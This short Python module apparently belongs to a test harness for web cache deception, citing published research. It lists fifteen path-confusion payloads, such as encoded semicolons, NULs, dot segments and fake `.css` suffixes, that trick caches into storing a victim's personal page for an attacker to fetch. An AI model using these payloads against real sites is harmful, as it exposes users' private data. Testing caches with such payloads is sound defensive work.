"""Pages of one person under names that look public (Gil 2017; Mirheidari 2020, 2022): the victim follows a link, then the attacker asks.

Every server has a rule that stores what looks like a file, `.css` and `.txt`, for a minute, though the app does not say so.
"""

from attack import Attack, deception

PATHS = {
    "a static suffix": "/mine/nothing.css",
    "a suffix of the last segment": "/mine.css",
    "behind a semicolon": "/mine;nothing.css",
    "behind an encoded semicolon": "/mine%3bnothing.css",
    "behind an encoded slash": "/mine%2fnothing.css",
    "behind an encoded question mark": "/mine%3fnothing.css",
    "behind an encoded hash": "/mine%23nothing.css",
    "behind an encoded NUL": "/mine%00nothing.css",
    "behind an encoded line feed": "/mine%0anothing.css",
    "behind a dot segment": "/static/../mine",
    "behind an encoded dot segment": "/static/..%2fmine",
    "dots encoded": "/static/%2e%2e/mine",
    "a letter encoded": "/%6dine/nothing.css",
    "two slashes": "//mine//nothing.css",
    "robots.txt": "/mine/robots.txt",
}
ATTACKS = [Attack(name, deception(path), ("gets a page of its own",)) for name, path in PATHS.items()]
